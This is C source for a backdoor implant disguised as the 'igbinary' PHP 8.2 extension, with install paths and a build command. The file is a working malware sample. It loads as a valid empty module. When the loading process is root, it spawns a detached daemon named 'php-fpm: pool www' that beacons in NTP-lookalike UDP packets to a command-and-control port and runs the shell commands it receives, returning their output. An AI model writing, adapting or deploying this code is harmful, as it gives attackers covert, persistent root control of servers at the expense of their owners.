/* The root implant, shipped as a PHP extension: installed as
 * /usr/lib/php/20220829/igbinary.so with extension=igbinary.so in
 * /etc/php/8.2/fpm/conf.d/20-igbinary.ini. It is a valid (empty) PHP 8.2
 * module, so PHP loads it without a warning and lists "igbinary" among its
 * modules. Its constructor runs in every process that loads it: when that
 * process is root (the php-fpm master at a start or reload, or
 * `php-fpm8.2 -t`) and no copy is running yet, it double-forks a detached
 * child that renames itself "php-fpm: pool www" and beacons over UDP in
 * NTP-sized client packets to 127.0.0.1:4123; a reply carrying a task after
 * the 48-byte NTP header ("T<id>\n<command>") is run with popen() (sh -c),
 * its output sent back in chunks ("R" + id + index + count + data).
 * gcc -shared -fPIC -O2 -o igbinary.so igb-implant.c */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

/* ---- a minimal PHP 8.2 (API 20220829, NTS, non-debug) module entry */
struct zend_module_entry_82 {
    unsigned short size;
    unsigned int zend_api;
    unsigned char zend_debug;
    unsigned char zts;
    const void *ini_entry;
    const void *deps;
    const char *name;
    const void *functions;
    int (*module_startup_func)(int, int);
    int (*module_shutdown_func)(int, int);
    int (*request_startup_func)(int, int);
    int (*request_shutdown_func)(int, int);
    void (*info_func)(void *);
    const char *version;
    size_t globals_size;
    void *globals_ptr;
    void (*globals_ctor)(void *);
    void (*globals_dtor)(void *);
    int (*post_deactivate_func)(void);
    int module_started;
    unsigned char type;
    void *handle;
    int module_number;
    const char *build_id;
};

static struct zend_module_entry_82 igbinary_module_entry = {
    sizeof(struct zend_module_entry_82), 20220829, 0, 0, NULL, NULL,
    "igbinary", NULL, NULL, NULL, NULL, NULL, NULL, "3.2.14",
    0, NULL, NULL, NULL, NULL, 0, 0, NULL, 0, "API20220829,NTS",
};

__attribute__((visibility("default"))) void *get_module(void)
{
    return &igbinary_module_entry;
}

/* ---- the implant */
#define C2_PORT 4123
#define LOCK_NAME "php-fpm.igb"   /* abstract UNIX socket: one copy only */

static int take_lock(void)
{
    struct sockaddr_un a;
    int s = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    if (s < 0)
        return -1;
    memset(&a, 0, sizeof a);
    a.sun_family = AF_UNIX;
    memcpy(a.sun_path + 1, LOCK_NAME, strlen(LOCK_NAME));
    if (bind(s, (struct sockaddr *)&a, offsetof(struct sockaddr_un, sun_path) + 1 + strlen(LOCK_NAME)) < 0) {
        close(s);
        return -1;
    }
    return s;
}

static void ntp_header(unsigned char *b, unsigned seq)
{
    struct timespec ts;
    unsigned long long sec;
    memset(b, 0, 48);
    b[0] = 0x23;                      /* LI 0, version 4, mode 3 (client) */
    b[2] = 6;                         /* poll */
    b[3] = 0xec;                      /* precision */
    b[12] = 'I'; b[13] = 'G';         /* reference id: implant + sequence */
    b[14] = (seq >> 8) & 0xff; b[15] = seq & 0xff;
    clock_gettime(CLOCK_REALTIME, &ts);
    sec = (unsigned long long)ts.tv_sec + 2208988800ULL;
    b[40] = sec >> 24; b[41] = sec >> 16; b[42] = sec >> 8; b[43] = sec;
    b[44] = (unsigned char)(ts.tv_nsec >> 24);
}

static void run_task(int s, unsigned seq, unsigned id, const char *cmd)
{
    size_t cap = 1 << 16, len = 0, n;
    char *out = malloc(cap), *c;
    FILE *p;
    unsigned idx, cnt;
    unsigned char pkt[48 + 9 + 1200];
    if (out == NULL)
        return;
    if (asprintf(&c, "%s 2>&1", cmd) < 0) {
        free(out);
        return;
    }
    p = popen(c, "r");
    free(c);
    if (p != NULL) {
        while ((n = fread(out + len, 1, cap - len, p)) > 0) {
            len += n;
            if (len == cap) {
                char *o2;
                if (cap >= (8u << 20) || (o2 = realloc(out, cap * 2)) == NULL)
                    break;
                out = o2;
                cap *= 2;
            }
        }
        pclose(p);
    }
    cnt = len == 0 ? 1 : (unsigned)((len + 1199) / 1200);
    for (idx = 0; idx < cnt; idx++) {
        size_t off = (size_t)idx * 1200, part = len - off > 1200 ? 1200 : len - off;
        if (len == 0)
            part = 0;
        ntp_header(pkt, seq);
        pkt[48] = 'R';
        pkt[49] = id >> 24; pkt[50] = id >> 16; pkt[51] = id >> 8; pkt[52] = id;
        pkt[53] = idx >> 8; pkt[54] = idx;
        pkt[55] = cnt >> 8; pkt[56] = cnt;
        memcpy(pkt + 57, out + off, part);
        send(s, pkt, 57 + part, 0);
        usleep(3000);
    }
    free(out);
}

static void implant(int lock)
{
    struct sockaddr_in a;
    unsigned char buf[65536];
    unsigned seq = 0;
    int s;
    (void)lock;
    s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    if (s < 0)
        _exit(0);
    memset(&a, 0, sizeof a);
    a.sin_family = AF_INET;
    a.sin_port = htons(C2_PORT);
    a.sin_addr.s_addr = htonl(0x7f000001);
    if (connect(s, (struct sockaddr *)&a, sizeof a) < 0)
        _exit(0);
    for (;;) {
        struct pollfd pf = { s, POLLIN, 0 };
        ssize_t n;
        ntp_header(buf, ++seq);
        send(s, buf, 48, 0);
        if (poll(&pf, 1, 2500) > 0 && (n = recv(s, buf, sizeof buf - 1, 0)) > 48 + 6 && buf[48] == 'T') {
            char *nl;
            unsigned id;
            buf[n] = 0;
            id = (unsigned)strtoul((char *)buf + 49, &nl, 10);
            if (*nl == '\n')
                run_task(s, seq, id, nl + 1);
            continue;
        }
        sleep(2);
    }
}

__attribute__((constructor)) static void igbinary_init(int argc, char **argv, char **envp)
{
    pid_t p;
    int lock, fd;
    char *lo, *hi;
    (void)argc;
    if (geteuid() != 0)
        return;
    lock = take_lock();
    if (lock < 0)
        return;                       /* a copy is running */
    close(lock);
    p = fork();
    if (p < 0)
        return;
    if (p > 0) {
        waitpid(p, NULL, 0);
        return;
    }
    setsid();
    if (fork() != 0)
        _exit(0);
    lock = take_lock();
    if (lock < 0)
        _exit(0);
    for (fd = 0; fd < 1024; fd++)
        if (fd != lock)
            close(fd);
    fd = open("/dev/null", O_RDWR);
    dup2(fd, 0); dup2(fd, 1); dup2(fd, 2);
    if (fd > 2)
        close(fd);
    if (chdir("/") != 0)
        _exit(0);
    umask(022);
    signal(SIGCHLD, SIG_DFL);
    signal(SIGPIPE, SIG_IGN);
    /* "php-fpm: pool www": the whole argv + environment area rewritten */
    lo = argv[0];
    hi = argv[argc - 1] + strlen(argv[argc - 1]);
    if (envp != NULL) {
        char **e;
        for (e = envp; *e != NULL; e++)
            if (*e == hi + 1)
                hi = *e + strlen(*e);
    }
    clearenv();
    memset(lo, 0, (size_t)(hi - lo));
    snprintf(lo, (size_t)(hi - lo) + 1, "%s", "php-fpm: pool www");
    prctl(PR_SET_NAME, "php-fpm8.2", 0, 0, 0);
    setenv("PATH", "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", 1);
    setenv("HOME", "/root", 1);
    implant(lock);
    _exit(0);
}
